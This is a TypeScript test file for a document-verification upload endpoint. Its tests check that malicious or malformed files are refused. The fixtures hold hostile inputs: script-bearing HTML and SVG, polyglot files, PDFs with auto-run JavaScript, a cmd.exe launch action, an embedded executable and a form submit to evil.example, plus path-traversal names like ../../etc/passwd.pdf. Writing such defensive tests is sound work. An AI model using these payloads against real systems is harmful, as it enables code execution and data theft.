import { readdir } from 'node:fs/promises'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { submitBid } from '#contract/bids.ts'
import { settings } from '#contract/settings.ts'
import { submitDocument } from '#contract/verification.ts'
import type { GivenProvider } from '../testing/given.ts'
import { documentForm, givenPdf, givenScan } from '../testing/given-document.ts'
import { openTestApp, type TestApp } from '../testing/open-test-app.ts'

let app: TestApp
let provider: GivenProvider
beforeAll(async () => {
  app = await openTestApp()
})
afterAll(() => app.close())

const left = async () => {
  const files = await readdir(join(app.services.config.dataDir, 'files', 'documents')).catch(
    (): string[] => [],
  )
  const { rows } = await app.services.pool.query(
    'select count(*) as submissions from verification_submissions',
  )
  return { files: files.length, submissions: rows[0].submissions }
}
let before: Awaited<ReturnType<typeof left>>
beforeEach(async () => {
  provider = await app.given.provider()
  before = await left()
})
/** Every test here is a refusal. */
afterEach(async () => expect(await left()).toEqual(before))

const send = (form: FormData) => provider.caller.call(submitDocument, { form })
const text = (words: string) => new TextEncoder().encode(words)
const join2 = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts))
const html = '<!doctype html><script>alert(1)</script>'
const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
/** An archive of one empty file, as its end record says. */
const zip = () => {
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  return join2(text('PK\x03\x04'), new Uint8Array(200), end)
}
/** A PDF whose catalog says this too. */
const pdfWith = (more: string) =>
  text(
    Buffer.from(givenPdf()).toString('latin1').replace('/Type /Catalog', `/Type /Catalog ${more}`),
  )
/** A PDF that holds an object among packed ones. */
const packedPdf = (object: string, filter = '/Filter /FlateDecode') => {
  const packed = new Uint8Array(deflateSync(object))
  const head = `5 0 obj\n<< /Type /ObjStm /N 1 /First 4 ${filter} /Length ${packed.length} >>\nstream\n`
  const body = Buffer.from(givenPdf()).toString('latin1')
  const at = body.indexOf('xref')
  return join2(
    text(`${body.slice(0, at)}${head}`),
    packed,
    text(`\nendstream\nendobj\n${body.slice(at)}`),
  )
}
const unreadable = 'We cannot read this document. Send a PDF, JPG or PNG of up to 10 MB.'

describe('what is no document is refused by its content, with a sentence, and nothing stays behind', () => {
  const bad: [string, () => Promise<Uint8Array<ArrayBuffer>> | Uint8Array<ArrayBuffer>][] = [
    ['a text', () => text('Insured, trust me.')],
    ['an SVG with a script', () => text(svg)],
    ['a page', () => text(html)],
    ['an archive', zip],
    [
      'a GIF',
      async () =>
        new Uint8Array(
          await sharp({ create: { width: 9, height: 9, channels: 3, background: '#000' } })
            .gif()
            .toBuffer(),
        ),
    ],
    ['half a picture', async () => (await givenScan()).slice(0, 700)],
    ['half a PDF', () => givenPdf().slice(0, 200)],
    ['a PDF header before a page', () => text(`%PDF-1.4\n${html}\nstartxref\n9\n%%EOF\n`)],
    ['a page before a PDF', () => join2(text(html), givenPdf())],
    ['a PDF with an archive behind it', () => join2(givenPdf(), zip())],
    [
      'a PDF that is an archive whose comment ends like a PDF',
      () => {
        const ending = text('startxref\n9\n%%EOF\n')
        const archive = Buffer.from(zip())
        archive.writeUInt16LE(ending.length, archive.length - 2)
        return join2(givenPdf(), archive, ending)
      },
    ],
    ['a picture with a page behind it', async () => join2(await givenScan(), text(html))],
    ['a picture with an archive behind it', async () => join2(await givenScan('png'), zip())],
    ['a picture with a PDF behind it', async () => join2(await givenScan(), givenPdf())],
    [
      'a small file of very many pixels',
      async () =>
        new Uint8Array(
          await sharp({
            create: { width: 12_000, height: 12_000, channels: 3, background: '#000' },
            limitInputPixels: false,
          })
            .png({ compressionLevel: 9 })
            .toBuffer(),
        ),
    ],
  ]
  it.each(bad)('%s', async (_, make) => {
    const file = await make()
    for (const type of ['application/pdf', 'image/jpeg']) {
      const answer = await send(documentForm('identity', file, { name: 'license.jpg', type }))
      expect([answer.status, answer.refusal.code, answer.refusal.message]).toEqual([
        400,
        'not_a_document',
        unreadable,
      ])
    }
  })

  it.each([
    [
      'a script that runs when it is opened',
      pdfWith('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
    ],
    [
      'a script under a name written in numbers',
      pdfWith('/OpenAction << /S /#4aavaScri#70t /JS (x) >>'),
    ],
    ['a program that is started', pdfWith('/OpenAction << /S /Launch /F (cmd.exe) >>')],
    ['a file inside', pdfWith('/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>')],
    [
      'a form that is sent away',
      pdfWith('/AA << /WC << /S /SubmitForm /F (https://evil.example) >> >>'),
    ],
    ['a script in packed objects', packedPdf('<< /S /JavaScript /JS (app.alert\\(1\\)) >>')],
    ['packed objects that nobody can look into', packedPdf('<< >>', '/Filter /LZWDecode')],
    [
      'packed objects under a lock',
      join2(packedPdf('<< >>'), text('trailer << /Encrypt 9 0 R >>\nstartxref\n9\n%%EOF\n')),
    ],
    ['packed objects without end', packedPdf(' '.repeat(6_000_000))],
  ])('a PDF with %s', async (_, file) => {
    const answer = await send(documentForm('identity', file))
    expect([answer.status, answer.refusal.code, answer.refusal.message]).toEqual([
      400,
      'not_a_document',
      'This PDF holds more than pages: a script, another file, or a form that sends data. Print it to a new PDF, or send a photo.',
    ])
  })

  it('a file of 0 bytes', async () => {
    const answer = await send(documentForm('identity', new Uint8Array()))
    expect([answer.status, answer.refusal.message]).toEqual([400, 'The file is empty.'])
  })

  it('a file of 50 MB, and one a byte too large, said or not said before', async () => {
    const large = await send(documentForm('identity', new Uint8Array(50_000_000)))
    const over = await send(
      documentForm('identity', new Uint8Array(settings.documents.maxBytes + 1)),
    )
    for (const { status, refusal } of [large, over])
      expect([status, refusal.code, refusal.message]).toEqual([
        413,
        'body_too_large',
        'This file is too large. Files can be up to 10 MB.',
      ])
    // The connection serves the next call.
    expect((await send(documentForm('identity', text('x')))).status).toBe(400)
  })

  it('a file name that holds a path', async () => {
    for (const name of ['../../etc/passwd.pdf', 'a/b.pdf', 'C:\\Users\\x.pdf', '..']) {
      const answer = await send(documentForm('identity', givenPdf(), { name }))
      expect([answer.status, answer.refusal.message]).toEqual([
        400,
        'The file name must not hold a path.',
      ])
    }
  })
})

describe('a form that is none', () => {
  it('is refused without a file, with two, without a step, and when it is cut off', async () => {
    const without = new FormData()
    without.set('stepId', 'identity')
    expect((await send(without)).refusal.message).toBe('Choose a file to send.')
    const two = documentForm('identity', givenPdf())
    two.append('other', new File([givenPdf()], 'other.pdf'))
    expect((await send(two)).status).toBe(400)
    const stepless = documentForm('identity', givenPdf())
    stepless.delete('stepId')
    expect((await send(stepless)).refusal.message).toBe('Choose a step of the verification.')
    const cut = await provider.caller.call(submitDocument, {
      file: text('--x\r\nContent-Disposition: form-data; name="document"; filename="a.pdf"\r\n'),
      contentType: 'multipart/form-data; boundary=x',
    })
    expect([cut.status, cut.refusal.message]).toEqual([
      400,
      'The form could not be read. Send one file and its fields.',
    ])
    const bare = await provider.caller.call(submitDocument, {
      file: text('x'),
      contentType: 'multipart/form-data',
    })
    expect(bare.status).toBe(400)
    const plain = await provider.caller.call(submitDocument, {
      file: givenPdf(),
      contentType: 'application/pdf',
    })
    expect([plain.status, plain.refusal.message]).toEqual([
      415,
      'Send the form as multipart/form-data.',
    ])
  })

  it('is not taken by other calls', async () => {
    const answer = await provider.caller.call(submitBid, {
      form: documentForm('identity', givenPdf()),
    })
    expect([answer.status, answer.refusal.code]).toEqual([415, 'unsupported_media_type'])
  })
})
